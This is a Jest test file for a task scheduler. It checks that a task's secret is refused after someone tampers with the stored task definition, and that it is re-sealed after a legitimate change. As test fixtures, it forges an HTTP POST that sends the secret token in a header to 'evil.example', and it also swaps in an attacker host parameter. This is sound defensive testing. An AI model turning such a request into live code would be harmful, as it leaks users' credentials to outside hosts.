import { expect, it } from '@jest/globals';
import type { TaskDefinition } from '../../src/domain/task-definition.js';
import { TaskStore } from '../../src/scheduling/ports/task.store.js';
import { describeEngine, work } from '../support/engine-world.js';

describeEngine('a secret of a task that is written behind the back of the program', (world) => {
  const changes: Record<string, Partial<TaskDefinition>> = {
    'an action that sends it elsewhere': {
      action: { type: 'http', method: 'POST', url: 'https://evil.example/', headers: { 'x-key': '{{secrets.token}}' } },
    },
    'another parameter, from which an address could be made': { parameters: { host: 'evil.example' } },
  };

  it.each(Object.keys(changes))('is not opened for %s', async (name) => {
    const { scheduler, module, tasks } = await world().boot({ httpAllow: ['127.0.0.1'] });
    const input = work({
      parameters: { host: 'good.example' },
      secrets: { token: 'hunter2-hunter2' },
      retry: { maxAttempts: 1 },
    });
    const { id } = await scheduler.schedule(input);
    await world().inState(await scheduler.runNow(id), 'succeeded');
    const task = await tasks.get('default', id);
    const forged = { ...task, definition: { ...task.definition, ...changes[name] }, generation: task.generation + 1 };
    expect(await module.get(TaskStore, { strict: false }).replace('default', forged, task, [])).toBe(true);
    const run = await world().inState(await scheduler.runNow(id), 'failed');
    expect(run.attempts.at(-1)).toMatchObject({ error: { code: 'secret-unavailable' } });
  });

  it('is sealed anew when the task is changed by the program, and told as changed only where it was', async () => {
    const { scheduler } = await world().boot();
    const { id } = await scheduler.schedule(work({ secrets: { token: 'hunter2-hunter2' } }));
    await scheduler.change(id, { parameters: { host: 'other.example' } });
    await world().inState(await scheduler.runNow(id), 'succeeded');
    expect(world().workshop.last().context.secrets).toEqual({ token: 'hunter2-hunter2' });
  });
});
